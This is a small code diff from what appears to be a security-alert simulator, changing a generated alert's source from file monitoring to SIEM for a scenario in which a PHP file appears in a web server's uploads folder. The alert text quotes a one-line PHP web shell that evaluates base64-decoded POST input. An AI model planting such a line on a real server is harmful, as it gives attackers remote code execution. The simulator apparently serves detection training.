@@ -23,7 +23,7 @@ export const scriptInUploadFolder: TellSituation = (setting) => {
       alert(
         setting,
         at,
-        'file_monitoring',
+        'siem',
         'New executable content below document root',
         `${setting.iso(at)} ${server.dnsName} CREATE /var/www/portal/uploads/thumb.php uid=33(www-data) sha256=${setting.file('thumb.php').sha256} first_lines="<?php @eval(base64_decode($_POST['k']));"`,
       ),
